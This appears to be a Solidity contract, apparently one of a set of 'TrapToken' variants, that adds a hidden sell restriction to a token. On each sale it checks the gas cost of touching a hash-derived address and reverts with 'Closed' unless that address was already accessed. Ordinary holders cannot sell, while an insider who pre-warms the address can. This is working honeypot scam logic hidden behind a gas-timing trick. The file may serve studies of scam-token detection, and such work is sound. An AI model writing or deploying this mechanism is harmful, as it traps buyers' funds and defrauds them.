// SPDX-License-Identifier: MIT
pragma solidity >=0.6.12 <0.9.0;

import {TrapToken} from "./TrapToken.sol";

/// @notice A first look at an account costs more than a second: where it does not, another has looked before.
contract WarmAccess is TrapToken {
    constructor(address router_) TrapToken(router_) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (_isSell(from, to)) {
            address stranger = address(uint160(uint256(keccak256(abi.encodePacked("lantern", from)))));
            uint256 before = gasleft();
            uint256 size;
            assembly {
                size := extcodesize(stranger)
            }
            require(before - gasleft() + size < 1500, "Closed");
        }
        super._move(from, to, amount);
    }
}
